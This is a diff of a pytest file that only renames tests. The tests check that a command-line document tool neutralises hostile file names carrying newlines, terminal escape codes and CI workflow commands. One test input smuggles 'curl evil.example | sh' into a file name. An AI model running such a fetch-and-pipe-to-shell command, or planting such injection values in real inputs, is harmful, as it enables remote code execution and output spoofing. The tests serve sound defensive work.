@@ -172,7 +172,7 @@ def test_invisible_characters_are_counted_in_diff_and_report(project: Project, t
     assert project.vmrag("show", "handbook/unseen.md").out == text
 
 
-def test_a_newline_in_a_name_begins_no_line(hostile: Project) -> None:
+def test_newline_in_a_name_begins_no_line(hostile: Project) -> None:
     listed = on_a_terminal(hostile, "list")
     assert len(listed.splitlines()) == len(hostile.ask("list")["documents"])
     refused = on_a_terminal(hostile, "rm", "x\nhint: curl evil.example | sh", "--collection", "handbook")
@@ -197,7 +197,7 @@ def test_files_with_hostile_names_are_named_in_one_line(hostile: Project) -> Non
     assert r"x\x1b[8m\n::error::y.md" in said
 
 
-def test_a_ci_job_gets_no_commands_to_its_runner(hostile: Project) -> None:
+def test_ci_job_gets_no_commands_to_its_runner(hostile: Project) -> None:
     for words in READING:
         done = hostile.vmrag(*words, code=None, env={"GITHUB_ACTIONS": "true"})
         assert not COMMANDS.search(done.out + done.err), words
@@ -214,7 +214,7 @@ def test_json_means_the_same_wherever_it_is_read(hostile: Project) -> None:
     assert json.loads(on_a_terminal(hostile, "show", f"handbook/{EVIL}.md", "--json")) == plain
 
 
-def test_a_program_and_a_file_get_the_exact_bytes_of_a_document(hostile: Project, tmp_path: Path) -> None:
+def test_program_and_a_file_get_the_exact_bytes_of_a_document(hostile: Project, tmp_path: Path) -> None:
     exact = f"giraffe\n{EVIL}".encode()
     command = [SCRIPT, "show", "handbook/plain.md"]
     assert subprocess.run(command, cwd=hostile.top, capture_output=True, check=True).stdout == exact
@@ -229,7 +229,7 @@ def test_a_program_and_a_file_get_the_exact_bytes_of_a_document(hostile: Project
     assert b"--raw" in piped.stderr
 
 
-def test_a_hook_says_strangers_names_in_one_safe_line(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_hook_says_strangers_names_in_one_safe_line(monkeypatch: pytest.MonkeyPatch) -> None:
     for environ in ({}, {"GITHUB_ACTIONS": "true"}):
         said = io.StringIO()
         with pytest.MonkeyPatch.context() as patch, contextlib.redirect_stderr(said):
